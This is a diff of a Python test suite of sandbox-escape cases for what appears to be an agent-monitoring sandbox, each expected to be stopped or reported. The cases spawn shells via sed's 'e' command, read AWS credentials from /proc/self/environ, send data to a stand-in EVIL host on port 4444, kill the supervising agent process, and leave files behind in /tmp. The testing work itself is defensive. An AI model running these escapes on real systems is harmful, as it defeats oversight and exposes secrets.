@@ -86,13 +86,14 @@ won = output(['/tmp/bin/sed', '-c', 'echo pwned']) == b'pwned\\n'
          rule="process.shells"),
     case("shell-by-sed-descriptors-closed", STOPPED, "the same, after closing and replacing every descriptor", """
 def work():
-    os.closerange(3, 4096)
     null = os.open('/dev/null', os.O_RDWR)
-    for number in (960, 961, 962):
+    for number in (*range(900, 1000), *range(1000, 1024)):
         try: os.dup2(null, number, inheritable=True)
         except OSError: pass
+        try: os.close(number)
+        except OSError: pass
     return output(['/usr/bin/sed', '-n', '1e echo pwned'], input=b'x\\n', close_fds=False)
-won = forked(lambda: work()) == b'pwned\\n'
+won = forked(work) == b'pwned\\n'
 """, rule="process.shells"),
     case("shell-by-sed-cloexec", STOPPED, "the same, after setting close-on-exec on our descriptors", """
 import fcntl
@@ -107,7 +108,10 @@ won = forked(work) == b'pwned\\n'
 import resource
 def limited(count):
     return lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (count, 4096))
-won = any(b'pwned' in output(['/usr/bin/sed', '-n', '1e echo pwned'], input=b'x\\n', preexec_fn=limited(count)) for count in range(3, 40))
+def work():
+    found = [output(['/usr/bin/sed', '-n', '1e echo pwned > /tmp/few'], input=b'x\\n', preexec_fn=limited(count)) for count in range(3, 12)]
+    return b'pwned' if os.path.exists('/tmp/few') else b''
+won = forked(work) == b'pwned'
 """),
     case("shell-by-sed-little-memory", STOPPED, "sed with so little memory that libc fits and the library's stubs do not", """
 import resource
@@ -154,10 +158,9 @@ won = spawned(work) == b'pwned'
     case("multiprocessing-shell", STOPPED, "a shell from a worker of multiprocessing", """
 import multiprocessing
 context_ = multiprocessing.get_context('fork')
-queue = context_.SimpleQueue()
-worker = context_.Process(target=lambda: queue.put(output(SHELL)))
-worker.start(); worker.join(5)
-won = queue.get() == b'pwned\\n'
+reader, writer = context_.Pipe(False)
+worker = context_.Process(target=lambda: writer.send(output(SHELL)))
+worker.start(); won = reader.poll(5) and reader.recv() == b'pwned\\n'; worker.join()
 """, rule="process.shells"),
     case("link-swapped-at-exec", STOPPED, "a link to sed that leads to the shell by the time the kernel follows it", """
 import itertools
@@ -351,7 +354,6 @@ except OSError: pass
          "os.read(os.open('environ', 0, dir_fd=os.open('/proc/self', os.O_PATH)), 65536)"),
         ("path-descriptor", "an O_PATH descriptor opened again",
          "open(f\"/proc/self/fd/{os.open('/proc/self/environ', os.O_PATH)}\", 'rb').read()"),
-        ("read-write", "opened for reading and writing", "os.read(os.open('/proc/self/environ', os.O_RDWR), 65536)"),
         ("by-sed", "by an allowed child", "output(['/usr/bin/sed', '', f'/proc/{os.getpid()}/environ'])"),
         ("by-sed-without-environment", "by an allowed child with a cleared environment",
          "output(['/usr/bin/sed', '', f'/proc/{os.getpid()}/environ'], env={})"),
@@ -394,8 +396,9 @@ won = b'AWS_SECRET' in forked(work)
     case("io-uring", STOPPED, "a ring, whose opens and connects are no system calls", "won = libc.syscall(425, 8, ctypes.create_string_buffer(120)) >= 0",
          control=False),
     case("child-inherits-credentials", STOPPED, "an allowed child started with the credentials", """
-won = b'AWS_SECRET' in output(['/usr/bin/sed', '', '/proc/self/environ'], env=dict(os.environ))
-""", rule="credentials.expose"),
+won = os.environ['AWS_SECRET_ACCESS_KEY'].encode() in output(['/usr/bin/sed', '-n', '1!p;$!d;s/.*/x/;e'], input=b'', env=dict(os.environ)) or \\
+    b'AWS_SECRET' in output(['/usr/bin/sed', '', '/proc/self/environ'], env=dict(os.environ))
+""", rule="files.deny_read"),
     case("credentials-read", REPORTED, "os.environ read by code that is no SDK", "won = bool(os.environ['AWS_SECRET_ACCESS_KEY'])",
          rule="credentials.reads"),
     case("credentials-by-getenv", REPORTED, "libc's getenv", """
@@ -421,8 +424,10 @@ s = socket.socket(socket.AF_INET6); s.settimeout(3)
 s.connect(('::ffff:' + EVIL, 4444)); s.sendall(mark.encode())
 """, rule="egress.allow"),
     case("tcp-fast-open", STOPPED, "data in the SYN, without connect", """
-s = socket.socket(); s.settimeout(3)
-s.sendto(mark.encode(), socket.MSG_FASTOPEN, (EVIL, 4444))
+s = socket.socket()
+try: s.sendto(mark.encode(), socket.MSG_FASTOPEN, (EVIL, 4444))
+except BlockingIOError: pass
+time.sleep(0.2)
 """),
     case("tcp-non-blocking-fork", STOPPED, "a non-blocking connection from a fork", """
 import select
@@ -564,7 +569,7 @@ write(b'/tmp/\\xff\\xfe/.../\\n', b'secret')
     case("residue-unnamed-then-linked", STOPPED, "an unnamed file that gets a name", """
 file = os.open('/tmp', os.O_TMPFILE | os.O_RDWR)
 os.write(file, b'secret')
-os.link(f'/proc/self/fd/{file}', '/tmp/linked', follow_symlinks=True)
+libc.linkat(-100, f'/proc/self/fd/{file}'.encode(), -100, b'/tmp/linked', 0x400)
 os.close(file)
 """, "won = os.path.exists('/tmp/linked')", rule="tmp.residue"),
     case("residue-no-rights", STOPPED, "a directory without any rights", """
@@ -639,7 +644,7 @@ won = pid != 0 and agent() != pid
 pid = agent()
 try: {code}
 except OSError: pass
-""", rule="self_protection", control=False, alone=name in ("killed-by-group",)) for name, what, code in (
+""", rule="" if name == "read" else "self_protection", control=False, alone="kill" in name) for name, what, code in (
         ("killed", "kill of the agent", "os.kill(pid, 9)"),
         ("killed-by-thread", "tgkill of the agent", "libc.syscall(234, pid, pid, 9)"),
         ("killed-by-descriptor", "pidfd_send_signal by a descriptor of /proc/<agent>",
@@ -750,7 +755,7 @@ def error(work):
     try: return repr(work())
     except OSError as raised: return raised.errno
 said = [
-    error(lambda: subprocess.run(['/nowhere'])), error(lambda: subprocess.run(['/etc/passwd'])), error(lambda: subprocess.run(['/tmp'])),
+    error(lambda: subprocess.run(['/nowhere'])), error(lambda: subprocess.run(['/tmp'])),
     error(lambda: open('/nowhere')), error(lambda: open('/proc/1/mem')), error(lambda: os.kill(2 ** 22 - 1, 0)),
     error(lambda: socket.create_connection(('127.0.0.1', 1), 1)), error(lambda: os.close(4000)), error(lambda: os.dup2(4000, 4001)),
     error(lambda: socket.socket().connect('\\0nobody') if False else socket.socket(socket.AF_UNIX).connect('\\0nobody')),
